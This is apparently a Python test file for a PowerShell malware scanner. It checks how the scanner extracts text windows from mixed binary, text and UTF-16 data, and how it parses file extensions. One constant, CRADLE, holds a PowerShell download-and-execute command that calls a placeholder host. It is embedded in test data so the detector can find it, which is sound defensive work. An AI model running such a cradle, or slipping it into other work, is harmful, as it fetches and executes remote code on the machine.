"""The windows read for PowerShell: the block-wise text test and the NUL-count gate give
the views a full count gives (the reference below), on random, text, UTF-16 and NUL
runs mixed."""

from __future__ import annotations

import random

from secops.scanning import powershell as ps
from secops.scanning.filetype import _extensions

CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://x.test/a')"


def _reference(data: bytes, offsets: list[int]) -> list[str]:
    utf16 = b"\0" in data[:4096] or data[:4096].startswith((b"\xff\xfe", b"\xfe\xff"))
    spans: list[list[int]] = []
    for offset in sorted(set(offsets)):
        lo, hi = max(0, offset - ps.WINDOW_BEFORE), offset + ps.WINDOW_AFTER
        if spans and lo <= spans[-1][1]:
            spans[-1][1] = max(spans[-1][1], hi)
        else:
            spans.append([lo, hi])
        if len(spans) > ps.MAX_WINDOWS:
            break
    if len(data) <= ps.WINDOW_BEFORE + ps.WINDOW_AFTER:
        spans = [[0, len(data)]]
    views = []
    for lo, hi in spans[:ps.MAX_WINDOWS]:
        chunk = data[lo:hi]
        if len(chunk.translate(None, ps._TEXT_BYTES)) < 0.3 * len(chunk):
            views.append(chunk.decode("latin-1"))
        if utf16:
            if chunk.startswith(b"\xfe\xff"):
                views.append(chunk.decode("utf-16-be", "replace"))
            else:
                for aligned in (chunk, chunk[1:]):
                    if aligned[1::2].count(0) >= 0.6 * (len(aligned) // 2):
                        views.append(aligned.decode("utf-16-le", "replace"))
    return views


def test_views_match_the_full_count() -> None:
    rng = random.Random(12)
    kinds = {
        "random": lambda n: rng.randbytes(n),
        "text": lambda n: (CRADLE.encode() + b"\n") * (n // 64 + 1),
        "wide": lambda n: CRADLE.encode("utf-16-le") * (n // 128 + 1),
        "nul": lambda n: b"\0" * n,
    }
    seen_views = 0
    for _ in range(300):
        data = b"".join(kinds[rng.choice(list(kinds))](rng.randint(0, 12000))
                        for _ in range(rng.randint(0, 5)))
        offsets = [rng.randrange(max(1, len(data))) for _ in range(rng.randint(0, 70))]
        views = ps.text_views(data, offsets)
        assert views == _reference(data, offsets)
        seen_views += len(views)
    assert seen_views > 100
    wide = rng.randbytes(2000) + CRADLE.encode("utf-16-le") * 80 + rng.randbytes(30000)
    assert any(CRADLE in view for view in ps.text_views(wide, [2000]))
    assert ps.text_views(rng.randbytes(60000), [1000, 20000, 40000]) == []


def test_text_test_matches_the_full_count_near_its_limit() -> None:
    """Chunks whose share of non-text bytes (high, control, NUL) lies around the 30%
    limit, in every order and size: the quick count of high bytes and the block-wise
    count decide as a full count does."""
    rng = random.Random(30)
    high, control, text = bytes(range(0x80, 0x100)), b"\0\x01\x1b\x7f", b"ab \n\t~"
    decided = {True: 0, False: 0}
    for _ in range(1200):
        size = rng.choice([0, 1, 2, 3, 50, 2047, 2048, 2049, 6000, 12288, 30000])
        share, high_part = rng.uniform(0.2, 0.4), rng.random()
        chunk = bytes(rng.choice(high if rng.random() < high_part else control)
                      if rng.random() < share else rng.choice(text) for _ in range(size))
        expected = len(chunk.translate(None, ps._TEXT_BYTES)) < 0.3 * len(chunk)
        assert ps._mostly_text(chunk) == expected, (size, share, high_part)
        decided[expected] += 1
    assert min(decided.values()) > 300, decided


def test_extensions_of_names() -> None:
    assert _extensions("dir/Report.TAR.gz") == ["tar", "gz"]
    assert _extensions("C:\\Users\\x\\invoice.pdf.exe") == ["pdf", "exe"]
    assert _extensions("a/.bashrc") == []
    assert _extensions("archive.zip!docs/./notes.") == []
    assert _extensions("x/y.txt/.") == ["txt"]
    assert _extensions("") == []
